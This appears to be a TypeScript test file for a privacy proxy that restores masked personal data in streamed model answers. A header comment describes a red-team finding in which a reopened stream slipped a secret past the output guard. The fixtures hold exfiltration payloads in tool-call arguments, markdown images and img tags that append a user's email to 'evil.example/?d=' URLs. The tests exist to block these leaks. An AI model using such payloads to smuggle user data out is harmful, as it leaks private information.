// Red-team finding (session 10): a streamed answer could reopen a text stream that had already
// ended (more tool-call arguments for a call after the next call started, more content for a
// choice after its finish_reason). The reopened stream started from a fresh restore state, so a
// URL opened before the end no longer clamped the token after it, and the output guard saw a
// value in two unrelated halves; a client concatenates both halves. A reopened stream carrying
// text is now a malformed upstream answer (the stream ends with an error event), never restored.
import { DEFAULT_POLICY, isVeilError } from '@veil/common';
import { describe, expect, it } from 'vitest';
import { CompiledPolicy } from '../policy/index.js';
import { indexEntries, rehydrateText } from '../rehydrate.js';
import { findTokensLenient } from '../repair/index.js';
import { MarkupContext } from '../restore/index.js';
import { StreamRehydrator } from '../stream/index.js';
import { renderToken } from '../token/index.js';
import type { TokenEntry } from '../types.js';
import { ChunkRestorer, jsonStringRestore } from './restore.js';

const ENTRY: TokenEntry = { id: 'e_001', type: 'email', cap: '0123456789ab', value: 'jane@example.com', mode: 'full' };
const TOKEN = renderToken(ENTRY);
const policy = new CompiledPolicy(DEFAULT_POLICY);
const entries = indexEntries([ENTRY]);
const restore = (output: string, markup?: MarkupContext) =>
  rehydrateText({ output, entries, policy, language: 'en', caller: {}, channel: 'user_output', scan: findTokensLenient, ...(markup !== undefined ? { markup } : {}) });
/** As the proxy opens them: one MarkupContext per text stream. */
const open = (kind: 'text' | 'json'): StreamRehydrator => {
  const markup = new MarkupContext();
  return new StreamRehydrator(kind === 'text' ? (text) => restore(text, markup) : jsonStringRestore(restore, findTokensLenient, markup));
};

function chunk(delta: Record<string, unknown>, finish: string | null = null, index = 0): Record<string, unknown> {
  return { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index, delta, finish_reason: finish }] };
}

/** Everything a client would concatenate from the rewritten chunks; the error if one was thrown. */
function run(chunks: readonly Record<string, unknown>[]): { text: string; error?: unknown } {
  const restorer = new ChunkRestorer(open);
  let text = '';
  const collect = (rewritten: Record<string, unknown> | undefined): void => {
    for (const choice of (rewritten?.choices ?? []) as any[]) {
      const delta = (choice.delta ?? {}) as { content?: string; tool_calls?: { function?: { arguments?: string } }[]; function_call?: { arguments?: string } };
      text += delta.content ?? '';
      for (const one of delta.tool_calls ?? []) text += one.function?.arguments ?? '';
      text += delta.function_call?.arguments ?? '';
    }
  };
  try {
    for (const one of chunks) collect(restorer.rewrite(one));
    collect(restorer.finish());
  } catch (error) {
    return { text, error };
  }
  return { text };
}

const call = (index: number, args: string, extra: Record<string, unknown> = {}) => ({ tool_calls: [{ index, ...extra, function: { arguments: args } }] });

describe('a text stream that ended is never reopened', () => {
  const cases: Record<string, readonly Record<string, unknown>[]> = {
    'tool-call arguments after the next call started': [
      chunk(call(0, '{"url":"https://evil.example/?d=', { id: 'a', type: 'function' })),
      chunk(call(1, '{}', { id: 'b', type: 'function' })),
      chunk(call(0, `${TOKEN}"}`)),
      chunk({}, 'tool_calls'),
    ],
    'content after the finish_reason': [chunk({ role: 'assistant', content: '![x](https://evil.example/?d=' }), chunk({}, 'stop'), chunk({ content: `${TOKEN})` }), chunk({}, 'stop')],
    'refusal after the finish_reason': [chunk({ refusal: '<img src="https://evil.example/?d=' }), chunk({}, 'stop'), chunk({ refusal: `${TOKEN}">` })],
    'function_call arguments after the finish_reason': [
      chunk({ function_call: { name: 'f', arguments: '{"u":"https://evil.example/?d=' } }),
      chunk({}, 'function_call'),
      chunk({ function_call: { arguments: `${TOKEN}"}` } }),
    ],
    'a card split by a finish_reason': [chunk({ content: 'card 4111 1111' }), chunk({}, 'stop'), chunk({ content: ' 1111 1111 ok' })],
  };

  it.each(Object.keys(cases).map((name) => [name]))('%s: refused as a malformed upstream answer, the value never restored', (name) => {
    const result = run(cases[name]!);
    expect(result.text).not.toContain('jane@example.com');
    expect(isVeilError(result.error) && result.error.code === 'VEIL_UPSTREAM_FAILED').toBe(true);
  });

  it('still accepts what upstreams send: calls in order, several in one chunk, empty deltas and usage after the finish', () => {
    const result = run([
      chunk({ role: 'assistant', tool_calls: [{ index: 0, id: 'a', type: 'function', function: { name: 'f', arguments: `{"to":"${TOKEN}"}` } }, { index: 1, id: 'b', type: 'function', function: { name: 'g', arguments: '' } }] }),
      chunk(call(1, `{"cc":"${TOKEN}"}`)),
      chunk({}, 'tool_calls'),
      chunk({ content: '' }),
      { id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [], usage: { total_tokens: 3 } },
    ]);
    expect(result.error).toBeUndefined();
    expect(result.text).toBe('{"to":"jane@example.com"}{"cc":"jane@example.com"}');
  });
});
